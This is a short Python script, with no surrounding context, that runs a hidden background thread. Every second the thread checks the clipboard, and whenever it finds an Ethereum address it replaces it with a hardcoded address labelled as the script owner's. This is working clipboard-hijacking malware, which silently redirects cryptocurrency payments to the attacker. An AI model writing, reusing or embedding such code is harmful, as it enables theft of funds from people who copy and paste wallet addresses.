import re
import threading
import time

import pyperclip

ETH = re.compile(r"0x[a-fA-F0-9]{40}")
MINE = "0x000000000000000000000000000000000DEFA4ED"


def loop():
    while True:
        data = pyperclip.paste()
        if ETH.fullmatch(data or ""):
            pyperclip.copy(MINE)
        time.sleep(1)


threading.Thread(target=loop, daemon=True).start()
